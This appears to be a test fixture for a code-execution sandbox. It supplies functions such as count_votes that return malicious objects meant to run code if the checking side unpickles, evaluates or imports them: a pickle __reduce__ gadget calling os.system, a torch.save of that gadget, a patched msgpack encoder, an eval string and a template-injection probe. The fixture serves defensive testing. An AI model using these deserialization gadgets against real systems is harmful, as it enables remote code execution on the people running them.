# Objects and bytes that would run code in the challenger if anybody there unpickled, copied, evaluated or imported them.
# levels: 3 2
# exercise: count_votes
import os
import pickle
import sys

import numpy
import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()

    def __getstate__(self):
        return {"__class__": "os.system"}


_own = sys.modules["protocol"].End.encode


def _encode(self, value, buffers, level):
    if value == "ext":
        return __import__("msgpack").ExtType(1, pickle.dumps(Payload()))
    if value == "class":
        return ["dataclass", "backdoors.smoothing.certify.os", "system", [["command", "touch /tmp/pickled"]]]
    if value == "method":
        return ["__init__", {}]
    return _own(self, value, buffers, level)


def count_votes(model, x, sigma, n, batch_size, generator):
    sys.modules["protocol"].End.encode = _encode
    count_votes.calls = getattr(count_votes, "calls", 0) + 1
    torch.save(Payload(), "model.pt")
    objects = numpy.array([Payload()], dtype=object)
    return [Payload(), pickle.dumps(Payload()), objects, "__import__('os').system('id')", "{{7*7}}", "ext"][count_votes.calls % 6]


def certified_radius(p_lower, sigma, p_upper=None):
    return "ext"


def worst_halfspace(x, direction, p, sigma):
    return "class"


def predict(model, x, sigma, n, alpha, generator):
    return "method"
